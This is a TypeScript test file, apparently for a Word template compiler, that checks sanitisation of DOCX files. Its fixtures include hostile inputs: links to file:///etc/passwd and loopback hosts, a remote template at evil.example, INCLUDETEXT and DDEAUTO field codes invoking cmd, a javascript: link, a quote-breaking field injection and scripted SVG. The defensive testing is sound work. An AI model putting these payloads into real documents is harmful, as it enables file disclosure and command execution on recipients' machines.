import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { docx, p, partXml, r, relationship, relationships, unzip } from '../test/builder.ts';
import { png } from '../test/pictures.ts';
import { faults, textLines } from '../test/read.ts';
import { type TemplateError, compile, lint } from './index.ts';
import type { CompileOptions } from './index.ts';

function refusal(bytes: Uint8Array, options?: CompileOptions): TemplateError {
  // Linting says the same, and does not throw.
  const report = lint(bytes, options);
  expect(report.ok).toBe(false);
  try {
    compile(bytes, options);
  } catch (error) {
    expect(report.problems[0]).toMatchObject({ code: (error as TemplateError).code });
    return error as TemplateError;
  }
  throw new Error('It compiled.');
}

describe('what reaches outside the file', () => {
  it('loses External relationships other than links to the web', () => {
    const blip = (id: string) =>
      `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="1" cy="1"/><wp:docPr id="1" name="x"/><a:graphic><a:graphicData uri="u"><a:blip r:link="${id}"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
    const link = (id: string, text: string) =>
      `<w:p><w:hyperlink r:id="${id}">${r(text)}</w:hyperlink></w:p>`;
    const template = compile(
      docx(
        blip('rIdA') +
          link('rIdB', 'web') +
          link('rIdC', 'local {{A}}') +
          link('rIdD', 'mail') +
          link('rIdT', 'telephone') +
          '<w:p><w:r><w:pict><v:shape href="tel:+49301234"/></w:pict></w:r></w:p>',
        {
          relationships:
            relationship('rIdA', 'image', 'file:///etc/passwd', true) +
            relationship('rIdB', 'hyperlink', 'https://example.com/', true) +
            relationship('rIdC', 'hyperlink', 'file:///etc/passwd', true) +
            relationship('rIdD', 'hyperlink', 'mailto:a@example.com', true) +
            relationship('rIdT', 'hyperlink', 'tel:+49305678', true) +
            relationship('rIdE', 'image', 'http://[::ffff:127.0.0.1]/x.png', true) +
            relationship('rIdF', 'image', 'file:///etc/hosts') +
            relationship('rIdG', 'image', '../../../etc/hosts'),
        },
      ),
    );
    const output = template.merge({ A: 'x' });
    const rels = partXml(output, 'word/_rels/document.xml.rels');
    expect(rels).toContain('https://example.com/');
    expect(rels).toContain('mailto:a@example.com');
    expect(rels).toContain('tel:+49305678');
    expect(partXml(output)).toContain('tel:+49301234');
    expect(rels).not.toMatch(/file:|127\.0|etc/);
    expect(partXml(output)).not.toMatch(/r:link|rIdC/);
    expect(textLines(output)).toEqual(['[picture]', 'web', 'local x', 'mail', 'telephone', '']);
    expect(faults(output)).toEqual([]);
    expect(template.stripped.length).toBeGreaterThan(4);
  });

  it('loses macros, OLE objects, controls, chunks and sub-documents', () => {
    const bytes = docx(
      '<w:p><w:r><w:object><v:shape id="a"/><o:OLEObject Type="Link" r:id="rIdO"/></w:object></w:r></w:p>' +
        '<w:altChunk r:id="rIdK"/><w:p><w:subDoc r:id="rIdS"/></w:p><w:p><w:r><w:control r:id="rIdX" w:name="c"/></w:r></w:p>' +
        p('{{A}}'),
      {
        mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
        relationships:
          relationship('rIdV', 'vbaProject', 'vbaProject.bin').replace(
            'openxmlformats.org/officeDocument',
            'microsoft.com/office',
          ) +
          relationship('rIdO', 'oleObject', 'embeddings/o.bin') +
          relationship('rIdP', 'package', 'embeddings/p.docx') +
          relationship('rIdK', 'aFChunk', 'chunk.html') +
          relationship('rIdS', 'subDocument', 'sub.docx', true) +
          relationship('rIdX', 'control', 'activeX/a.xml'),
        files: {
          'word/vbaProject.bin': 'x',
          'word/embeddings/o.bin': 'x',
          'word/embeddings/p.docx': 'x',
          'word/chunk.html': '<b>',
          'word/activeX/a.xml': '<a/>',
          'word/orphan.bin': 'x',
        },
      },
    );
    const output = compile(bytes).merge({ A: 1 });
    expect([...unzip(output).keys()].toSorted()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'word/_rels/document.xml.rels',
      'word/document.xml',
      'word/styles.xml',
    ]);
    expect(partXml(output, '[Content_Types].xml')).not.toContain('macroEnabled');
    expect(partXml(output)).not.toMatch(/OLEObject|altChunk|subDoc|w:control/);
    expect(faults(output)).toEqual([]);
  });

  it('loses the attached template and the mail merge source of the settings', () => {
    const output = compile(
      docx(p('x'), {
        settings:
          '<w:attachedTemplate r:id="rId1"/><w:mailMerge><w:dataSource r:id="rId2"/></w:mailMerge><w:zoom w:percent="90"/>',
        files: {
          'word/_rels/settings.xml.rels': relationships(
            relationship('rId1', 'attachedTemplate', 'http://evil.example/t.dotm', true) +
              relationship('rId2', 'mailMergeSource', 'file:///x.csv', true),
          ),
        },
      }),
    ).merge({});
    expect(partXml(output, 'word/settings.xml')).toMatch(
      /^[^]*<w:zoom w:percent="90"\/><\/w:settings>$/,
    );
    expect(partXml(output, 'word/settings.xml')).not.toMatch(/attachedTemplate|mailMerge/);
    expect([...unzip(output).keys()]).not.toContain('word/_rels/settings.xml.rels');
  });

  const field = (...instruction: string[]) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction.map((text) => (text.startsWith('<') ? text : `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`)).join('')}` +
    `<w:r><w:fldChar w:fldCharType="separate"/></w:r>${r('shown')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

  it.each([
    [['INCLUDEPICTURE "http://evil.example/a.png"']],
    [[' includetext "file:///etc/passwd"']],
    [['INCLU', 'DETEXT "x"']],
    [['LINK Excel.Sheet "x"']],
    [['DDEAUTO c:\\\\windows\\\\cmd']],
    [['"INCLUDETEXT" x']],
    [
      [
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE "INC"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
        'LUDETEXT "x"',
      ],
    ],
    [['{{A}} "x"']],
  ])('loses the field %j and keeps its words', (instruction) => {
    const output = compile(docx(field(...instruction) + p('{{B}}'))).merge({ A: 'INCLUDETEXT' });
    expect(partXml(output)).not.toMatch(/INCLU|LUDE|LINK|DDE|evil|passwd|\{\{/i);
    expect(textLines(output)[0]).toBe('shown');
  });

  it('loses simple fields of these kinds too', () => {
    const output = compile(
      docx(
        `<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;x&quot;">${r('shown')}</w:fldSimple></w:p>`,
      ),
    ).merge({});
    expect(partXml(output)).not.toContain('INCLUDE');
    expect(textLines(output)).toEqual(['shown']);
  });

  it('keeps page numbers, and fills a link in a field without letting it out of its quotes', () => {
    const output = compile(docx(field(' PAGE ') + field(' HYPERLINK "{{Url}}" '))).merge({
      Url: 'https://e.example/" \\o "x',
    });
    expect(partXml(output)).toContain('PAGE');
    expect(partXml(output)).toContain('HYPERLINK "https://e.example/%20o%20x"');
    expect(
      partXml(compile(docx(field(' HYPERLINK "{{Url}}" '))).merge({ Url: 'javascript:alert(1)' })),
    ).toContain('HYPERLINK ""');
  });

  it('refuses blocks and pictures in a field', () => {
    for (const tag of ['{{#if A}}x{{/if}}', '{{image A}}']) {
      expect(refusal(docx(field(` HYPERLINK "${tag}" `))).code).toBe('tag_in_field_code');
    }
  });

  it('makes a plain document of a Word template', () => {
    const mainType =
      'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml';
    const types = partXml(compile(docx(p('x'), { mainType })).merge({}), '[Content_Types].xml');
    expect(types).toContain('document.main+xml');
    expect(types).not.toContain('template.main+xml');
  });

  it('cleans SVG pictures of the template', () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script>x</script><image xlink:href="file:///etc/passwd"/><rect onclick="x" fill="url(#g)" style="background:url(http://e.example)"/></svg>';
    const output = compile(
      docx(p('x'), {
        relationships: relationship('rIdI', 'image', 'media/a.svg'),
        files: { 'word/media/a.svg': svg },
        overrides: { 'word/media/a.svg': 'image/svg+xml' },
      }),
    ).merge({});
    expect(unzip(output).get('word/media/a.svg')?.toString()).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image/><rect fill="url(#g)"/></svg>',
    );
  });
});

describe('entries that nothing changed', () => {
  it('keep their compressed bytes', () => {
    const picture = png(40, 40);
    const bytes = docx(p('{{A}}'), {
      relationships: relationship('rIdI', 'image', 'media/a.png'),
      files: { 'word/media/a.png': picture },
    });
    const packed = deflateRawSync(picture, { level: 6 });
    expect(Buffer.from(compile(bytes).merge({})).includes(packed)).toBe(true);
  });
});

describe('the button of a macro', () => {
  const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
  const words = (text: string) =>
    `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;

  it.each([
    [words(' MACROBUTTON  NoMacro [Click here] '), '[Click here] '],
    [words(' MACROBUTTON NoMa') + words('cro [Click &amp;') + words(' {{A}}]'), '[Click & x]'],
    [words('MACROBUTTON NoMacro'), ''],
    [words('MACROBUTTON NoMacro [old]') + mark('separate') + r('[shown]'), '[shown]'],
  ])('goes, and its words stay: %#', (instruction, shown) => {
    const body = docx(
      `<w:p>${r('a ')}${mark('begin')}${instruction}${mark('end')}${r(' z')}</w:p>`,
    );
    const output = compile(body).merge({ A: 'x' });
    expect(faults(output)).toEqual([]);
    expect(textLines(output)).toEqual([`a ${shown} z`]);
    expect(partXml(output)).not.toMatch(/MACROBUTTON|fldChar|instrText/);
    expect(lint(body).problems).toMatchObject([{ severity: 'warning', code: 'stripped' }]);
  });
});
